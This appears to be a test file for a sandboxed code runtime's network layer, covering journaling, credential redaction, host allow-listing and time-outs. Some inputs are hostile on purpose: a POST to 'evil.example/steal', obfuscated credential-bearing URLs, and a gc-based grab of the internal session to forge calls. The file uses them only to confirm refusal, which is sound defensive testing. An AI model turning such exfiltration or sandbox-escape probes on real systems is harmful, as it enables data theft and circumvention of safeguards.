import { describe, expect, test } from 'vitest';
import { z } from 'zod';
import { createMemoryJournal } from '../../src/journal/memory-journal.ts';
import type { CallBegan, CallEnded } from '../../src/protocol/events/call.ts';
import type { RunEvent } from '../../src/protocol/events/event.ts';
import type { RunRequest, RunResult } from '../../src/runs/api.ts';
import { createRuntime, type RuntimeOptions } from '../../src/runs/create-runtime.ts';
import { defineTool } from '../../src/tools/define-tool.ts';
import { sharedServer } from '../sandbox/network/support/servers.ts';
import { web } from '../sandbox/network/support/web.ts';
import { withRuntime } from './support.ts';

const server = sharedServer(web);
const base = (): string => `http://127.0.0.1:${server.port}`;

type CallEvent = CallBegan | CallEnded;

async function runWith(
  code: string,
  options: RuntimeOptions & Partial<RunRequest> = {},
): Promise<{ result: RunResult; calls: CallEvent[]; all: string }> {
  const events: RunEvent[] = [];
  const { limits, tools = [], journal } = options;
  const runtime = {
    tools,
    sandbox: { allowedHosts: ['127.0.0.1'] },
    ...(journal && { journal }),
    ...(limits && { limits }),
  };
  return withRuntime(runtime, async ({ run }) => {
    const result = await run({ code, onEvent: (event) => void events.push(event) });
    const calls = events.filter(({ type }) => type.startsWith('call.')) as unknown as CallEvent[];
    return { result, calls, all: JSON.stringify(events.slice(1)) };
  });
}

/** An event without what differs from run to run. */
function told({ type, ...event }: CallEvent): Record<string, unknown> {
  const { callId, runId, seq, at, road, ...rest } = event as unknown as Record<string, unknown>;
  return { type, ...rest };
}

describe('a request of a program', () => {
  test('is in the journal as a call, in its place among the others', async () => {
    const note = defineTool({
      name: 'note',
      description: 'Takes a note.',
      input: z.object({ text: z.string() }),
      execute: () => null,
    });
    const { result, calls } = await runWith(
      `import urllib.request, causeway
await tools.note(text='before')
urllib.request.urlopen('${base()}/chunks?page=2').read()
await causeway.fetch('${base()}/page', method='POST', headers={'Content-Type': 'text/plain', 'X-Key': 'k'}, body='hello')
await tools.note(text='after')`,
      { tools: [note] },
    );
    expect(result.calls.ok).toBe(4);
    expect(calls.slice(2, 6).map(told)).toEqual([
      {
        type: 'call.began',
        tool: 'http GET',
        args: { value: { url: `${base()}/chunks?page=2` } },
        line: 3,
      },
      expect.objectContaining({
        type: 'call.ended',
        status: 'ok',
        applied: 'yes',
      }),
      {
        type: 'call.began',
        tool: 'http POST',
        args: {
          value: { url: `${base()}/page`, headers: ['content-type', 'x-key'], body: 'hello' },
        },
        line: 4,
      },
      expect.objectContaining({ type: 'call.ended', status: 'ok', applied: 'yes' }),
    ]);
    expect(
      calls.filter(({ type }) => type === 'call.began').map((event) => (event as CallBegan).tool),
    ).toEqual(['note', 'http GET', 'http POST', 'note']);
  });

  test('is recorded with what it came to: status, type, and a body that is short text', async () => {
    const { calls } = await runWith(`
import causeway
for path in ('/broken', '/binary', '/large', '/headers', '/nothing', '/moved'):
    await causeway.fetch('${base()}' + path)
await causeway.fetch('${base()}/moved', redirect='manual')`);
    const results = calls.flatMap((event) => ('result' in event ? [event.result] : []));
    expect(results).toEqual([
      { value: { status: 500, body: 'sorry' } },
      { value: { status: 200, body: { bytes: 5 } } },
      { value: { status: 200, body: { bytes: 2_000_000 } } },
      { value: { status: 200, type: 'text/plain; charset=iso-8859-1', body: { bytes: 4 } } },
      { value: { status: 204 } },
      {
        value: {
          status: 200,
          url: `${base()}/landed`,
          type: 'application/json',
          body: expect.stringContaining('"url":"/landed"'),
        },
      },
      { value: { status: 302, location: '/landed' } },
    ]);
  });

  test('leaves no credentials and no large bodies in the journal, which keeps values whole', async () => {
    const journal = createMemoryJournal();
    const { result, all } = await runWith(
      `
import urllib.request, causeway
large = 'LARGE-' * 10_000
request = urllib.request.Request('${base()}/chunks', headers={'Authorization': 'Bearer SECRET-1', 'Cookie': 'SECRET-2', 'X-Api-Key': 'SECRET-3'})
urllib.request.urlopen(request).close()
await causeway.fetch('${base()}/nothing', method='POST', body=large, headers={'authorization': 'SECRET-4'})
for url in ('http://user:SECRET-5@127.0.0.1/', 'http:/user:SECRET-7@127.0.0.1/', ' http:\\\\\\\\user:SECRET-8@127.0.0.1/', 'ht\\ttp://user:SECRET-9@127.0.0.1/', 'http://user:SECRET-a/SECRET-b@127.0.0.1/', 'http:SECRET-c@127.0.0.1', 'http://evil.example/'):
    try:
        await causeway.fetch(url, headers={'Cookie': 'SECRET-6'}, body='x' * 2_000_000 if 'evil' in url else None)
    except (OSError, ToolError):
        pass
None`,
      { journal },
    );
    expect(result.ok).toBe(true);
    expect(server.arrived[0]?.headers.authorization).toBe('Bearer SECRET-1');
    expect(server.arrived[1]?.body.length).toBe(60_000);
    // The last is LARGE in base64.
    expect(all).not.toMatch(/SECRET|LARGE|TEFSR0Ut/);
    expect(all).toContain('"body":{"bytes":60000}');
    expect(all).not.toContain('"ref"');
  });

  test('H-S4 to a host that is not allowed is a refused call that had no effect', async () => {
    const { result, calls } = await runWith(`
import causeway
for method in ('GET', 'POST'):
    try:
        await causeway.fetch('http://evil.example/steal', method=method, body='x')
    except OSError:
        pass
None`);
    expect(result.calls).toMatchObject({ refused: 2, ok: 0, error: 0 });
    const message = (method: string) =>
      `${method} http://evil.example/steal is not allowed: the allowed hosts are 127.0.0.1; ` +
      'list evil.example in allowedHosts, or run with --allow-host evil.example';
    expect(calls.map(told)).toEqual(
      ['GET', 'POST'].flatMap((method) => [
        {
          type: 'call.began',
          tool: `http ${method}`,
          args: {
            value: { url: 'http://evil.example/steal', headers: ['content-type'], body: 'x' },
          },
          line: 5,
        },
        {
          type: 'call.ended',
          status: 'refused',
          applied: 'no',
          error: { name: 'NetworkError', code: 'host_not_allowed', message: message(method) },
        },
      ]),
    );
  });

  test('that fails is an error, of which reading ones are known to have had no effect', async () => {
    const { calls } = await runWith(`
import causeway
for method in ('GET', 'POST'):
    try:
        await causeway.fetch('http://127.0.0.1:1/', method=method)
    except OSError:
        pass
None`);
    const ends = calls.filter(({ type }) => type === 'call.ended') as CallEnded[];
    expect(ends.map(({ status, applied, error }) => [status, applied, error?.code])).toEqual([
      ['error', 'no', 'connection_failed'],
      ['error', 'unknown', 'connection_failed'],
    ]);
  });

  test('H-L7 that takes longer than a call may is timed out as any call is', async () => {
    const { result, calls } = await runWith(
      `
import causeway
try:
    await causeway.fetch('${base()}/hang')
except TimeoutError as error:
    told = [error.code, str(error)]
told`,
      { limits: { callMs: 200 } },
    );
    expect(result.value).toEqual([
      'call_timed_out',
      expect.stringContaining('Tool http GET did not answer within 200 ms (limit callMs)'),
    ]);
    expect((calls.at(-1) as CallEnded).status).toBe('timed_out');
    await server.idle();
  });

  test('H-S4 forged with a method or arguments that are none is refused and recorded', async () => {
    const { result, calls } = await runWith(`
import gc
gc.unfreeze()
session = next(one for one in gc.get_objects() if type(one).__name__ == 'Session')
told = []
for args in ('{"url": "http://evil.example/", "method": "G\\\\nT"}', '{}', '{"url": "x", "headers": "SECRET"}'):
    try:
        await session.start_call('causeway.http', args, 1)
    except ToolError as error:
        told.append(error.code)
for name in ('http GET', 'causeway.http GET'):
    try:
        await session.start_call(name, '{"url": "${base()}"}', 1)
    except ToolError as error:
        told.append(error.code)
told`);
    expect(result.value).toEqual([
      'invalid_request',
      'invalid_request',
      'invalid_request',
      'unknown_tool',
      'unknown_tool',
    ]);
    const began = calls.filter(({ type }) => type === 'call.began') as CallBegan[];
    expect(began.map(({ tool, args }) => [tool, args])).toEqual([
      ['http', { value: { url: 'http://evil.example/' } }],
      ['http GET', { value: {} }],
      ['http GET', { value: { url: 'x' } }],
    ]);
    expect(server.connections).toBe(0);
  });
});

describe('a runtime', () => {
  test('refuses allowed hosts that are none, at once', () => {
    expect(() => createRuntime({ sandbox: { allowedHosts: ['example.com/path'] } })).toThrow(
      expect.objectContaining({ code: 'invalid_allowed_host' }),
    );
  });

  test('gives its sessions the same network', async () => {
    await withRuntime({ sandbox: { allowedHosts: ['127.0.0.1'] } }, async (runtime) => {
      const session = await runtime.openSession();
      const code = `import urllib.request; urllib.request.urlopen('${base()}/page').status`;
      expect((await session.run({ code })).value).toBe(200);
      expect((await session.run({ code })).value).toBe(200);
    });
  });

  test('H-S4 without allowed hosts has none', async () => {
    await withRuntime({}, async (runtime) => {
      const { message } = await runtime.run({
        code: `import causeway; await causeway.fetch('${base()}/page')`,
      });
      expect(message).toBe('this sandbox has no network; call a tool instead');
    });
  });
});
